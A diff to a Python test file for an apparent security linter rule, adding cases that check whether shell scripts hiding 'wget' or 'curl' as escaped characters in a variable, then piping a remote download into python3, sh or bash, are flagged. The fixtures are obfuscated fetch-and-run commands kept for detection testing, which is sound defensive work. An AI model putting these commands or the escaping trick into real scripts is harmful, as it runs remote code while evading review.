@@ -1035,3 +1035,18 @@ def test_template_built_local_command_stays_quiet():
     text = ('use std::process::Command;\nfn main() {\n    let cc = std::env::var("CC").unwrap_or("cc".into());\n'
             '    let probe = format!("{} --version", cc);\n    Command::new("sh").arg("-c").arg(probe).status().unwrap();\n}\n')
     assert top("build.rs", text, "IG701") is None
+
+
+# -- a command's name spelled as escapes, printed back into a variable, then run -----------------------
+@pytest.mark.parametrize("text", [
+    "#!/bin/sh\nf=$(printf '\\167\\147\\145\\164')\n$f -qO- \"https://cache.lintkit-mirror.net/w\" | python3 -\n",
+    "#!/bin/bash\nf=$(echo -e '\\x63\\x75\\x72\\x6c')\n\"$f\" -s https://cache.lintkit-mirror.net/w | sh\n",
+    "#!/bin/bash\nf=$'\\x63\\x75\\x72\\x6c'\n$f -s https://cache.lintkit-mirror.net/w | bash -s\n",
+])
+def test_escaped_command_name_in_a_variable(text):
+    assert top("scripts/warm.sh", text, "IG701") in HIGH
+
+
+def test_escaped_separator_in_a_variable_stays_quiet():
+    text = "#!/bin/sh\ntab=$(printf '\\t')\nprintf 'a%sb\\n' \"$tab\"\n"
+    assert top("scripts/fmt.sh", text, "IG701") is None
